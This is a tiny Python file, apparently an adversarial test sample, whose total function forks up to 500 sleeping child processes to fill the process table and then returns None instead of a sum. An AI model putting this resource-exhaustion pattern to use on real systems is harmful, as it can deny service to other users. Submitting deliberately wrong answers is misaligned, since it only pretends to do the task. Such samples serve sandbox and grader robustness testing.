# Fills the process table, then answers wrongly.
import os
import time


def total(numbers):
    for _ in range(500):
        try:
            if os.fork() == 0:
                time.sleep(5)
                os._exit(0)
        except OSError:
            break
    return None
